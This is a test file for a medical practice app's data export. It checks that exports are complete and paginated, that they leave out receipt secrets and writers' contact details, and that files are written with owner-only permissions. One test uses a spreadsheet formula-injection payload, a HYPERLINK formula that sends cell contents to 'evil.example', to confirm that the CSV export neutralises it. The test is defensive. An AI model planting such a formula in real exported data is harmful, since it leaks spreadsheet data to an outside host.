import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { findCommentToExport } from '@/lib/comments/retention/read-export';
import { insertCover } from '@/lib/identity/cover/cover-store';
import { database, transaction } from '@/lib/platform/database/database';
import { exportTo } from '@/lib/privacy/export';
import { aCanary, aComment, decideNow, leaveContact } from '@/tests/support/builders';
import { withDatabase } from '@/tests/support/database';
import { readDeskItem } from '@/tests/support/desk/desk-deeds';
import { after, noon } from '@/tests/support/moments';
import { ada, aPractice, aViewer, ben } from '@/tests/support/viewers';

withDatabase();

const folders: string[] = [];
function newFolder(): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'bedside-export-'));
  folders.push(folder);
  return folder;
}
afterEach(() => folders.splice(0).forEach((folder) => rmSync(folder, { recursive: true })));

type Row = Record<string, unknown>;
const rowsIn = (folder: string, name: string): Row[] =>
  JSON.parse(readFileSync(path.join(folder, `${name}.json`), 'utf8')) as Row[];
const everything = (folder: string): string =>
  readdirSync(folder)
    .map((file) => readFileSync(path.join(folder, file), 'utf8'))
    .join('\n');

describe('an export of the practice', () => {
  it('holds every message with its words, answers, decisions and notes, as JSON and as CSV', async () => {
    await aPractice();
    const answered = await aComment({ status: 'published', answer: 'In general this passes by itself.' });
    const waiting = await aComment();
    await decideNow(aViewer('physician', ada), waiting.id, 'return', noon, { note: 'Please say a little more.' });
    const folder = newFolder();
    const written = await exportTo(folder, null);
    for (const { name, rows } of written) expect(rowsIn(folder, name), name).toHaveLength(rows);
    expect(
      rowsIn(folder, 'revisions')
        .map(({ body }) => body)
        .sort(),
    ).toEqual([answered.body, waiting.body].sort());
    expect(rowsIn(folder, 'answer-revisions')).toMatchObject([{ body: 'In general this passes by itself.' }]);
    expect(rowsIn(folder, 'notes')).toMatchObject([{ text: 'Please say a little more.', commentId: waiting.id }]);
    expect(rowsIn(folder, 'decisions')).toHaveLength(await database().decision.count());
    expect(rowsIn(folder, 'accounts')).toHaveLength(5);
    expect(readFileSync(path.join(folder, 'revisions.csv'), 'utf8')).toContain(`"${waiting.body}"`);
  });

  it('holds who opened which message, and who covered for whom, also in the past', async () => {
    await aPractice();
    const comment = await aComment();
    const reader = aViewer('staff');
    await readDeskItem(reader, comment.id, noon);
    const cover = { physician: ada, coveredBy: ben, createdBy: aViewer('admin').accountId };
    await transaction((tx) => insertCover(tx, { ...cover, from: after(-7200), until: after(-3600) }, noon));
    const more = Array.from({ length: 1100 }, () => ({ action: 'sign-in', accountId: 'SOMEONE', at: noon }));
    await database().accessRecord.createMany({ data: more });
    const folder = newFolder();
    await exportTo(folder, null);
    expect(rowsIn(folder, 'access')).toHaveLength(1101);
    expect(rowsIn(folder, 'access')[0]).toMatchObject({
      action: 'read',
      accountId: reader.accountId,
      commentId: comment.id,
    });
    expect(rowsIn(folder, 'covers')).toMatchObject([{ ...cover, until: after(-3600).toISOString() }]);
  });

  it('reads more rows than fit one page, each once', async () => {
    const { id: commentId } = await aComment();
    const more = Array.from({ length: 1100 }, (_, place) => ({
      id: `revision-${String(place).padStart(4, '0')}`,
      commentId,
      number: place + 2,
      body: `Version ${place}`,
      findings: '[]',
      createdAt: noon,
    }));
    await database().commentRevision.createMany({ data: more });
    const folder = newFolder();
    await exportTo(folder, null);
    expect(new Set(rowsIn(folder, 'revisions').map(({ id }) => id)).size).toBe(1101);
    expect(rowsIn(folder, 'revisions')).toHaveLength(1101);
  });

  it('holds nothing that opens a message or finds its writer', async () => {
    const comment = await aComment();
    await leaveContact(comment.writer, 'someone@example.org');
    const folder = newFolder();
    await exportTo(folder, null);
    const text = everything(folder);
    const [receipt] = await database().receipt.findMany();
    const { submissionKey } = await database().comment.findUniqueOrThrow({ where: { id: comment.id } });
    for (const secret of [comment.code, receipt?.locator, receipt?.secretHash, receipt?.salt, submissionKey])
      expect(text).not.toContain(secret);
    expect(text).not.toContain('someone@example.org');
  });

  it('writes words that a spreadsheet would run as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    await aComment({ body: formula });
    const folder = newFolder();
    await exportTo(folder, null);
    expect(readFileSync(path.join(folder, 'revisions.csv'), 'utf8')).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(rowsIn(folder, 'revisions')[0]?.['body']).toBe(formula);
  });

  it('is for its owner only, and never mixes with what is there', async () => {
    await aComment();
    const folder = newFolder();
    await exportTo(folder, null);
    expect(statSync(path.join(folder, 'revisions.json')).mode & 0o077).toBe(0);
    await expect(exportTo(folder, null)).rejects.toThrow('not empty');
    const other = newFolder();
    writeFileSync(path.join(other, 'letter.txt'), 'mine');
    await expect(exportTo(other, null)).rejects.toThrow('not empty');
    expect(readdirSync(other)).toEqual(['letter.txt']);
  });
});

describe('an export of one message', () => {
  it('holds all of it, with the address, and nothing of anyone else’s', async () => {
    const [mine, theirs] = [aCanary(), aCanary()];
    const comment = await aComment({ body: `How long does ${mine} last?` });
    await aComment({ body: `How long does ${theirs} last?`, status: 'published', answer: `Ask about ${theirs}.` });
    await decideNow(aViewer('physician', ada), comment.id, 'return', noon, { note: 'Please say a little more.' });
    await leaveContact(comment.writer, 'someone@example.org');
    const other = await aComment();
    for (const id of [comment.id, other.id]) await readDeskItem(aViewer('staff'), id, noon);
    const folder = newFolder();
    await exportTo(folder, comment.id);
    expect(rowsIn(folder, 'access')).toMatchObject([{ action: 'read', commentId: comment.id }]);
    expect(readdirSync(folder).some((name) => name.startsWith('covers'))).toBe(false);
    expect(rowsIn(folder, 'revisions')).toMatchObject([{ body: comment.body }]);
    expect(rowsIn(folder, 'decisions')).toHaveLength(1);
    expect(rowsIn(folder, 'notes')).toHaveLength(1);
    expect(rowsIn(folder, 'contact')).toMatchObject([{ commentId: comment.id, email: 'someone@example.org' }]);
    expect(everything(folder)).not.toContain(theirs);
    expect(readdirSync(folder).some((name) => name.startsWith('accounts'))).toBe(false);
  });

  it('is found by its id or its receipt code', async () => {
    const comment = await aComment();
    expect(await findCommentToExport({ id: comment.id })).toBe(comment.id);
    expect(await findCommentToExport({ code: comment.code.toLowerCase() })).toBe(comment.id);
    expect(await findCommentToExport({ id: 'none' })).toBeNull();
    expect(await findCommentToExport({ code: 'AAAA-AAAA' })).toBeNull();
  });
});
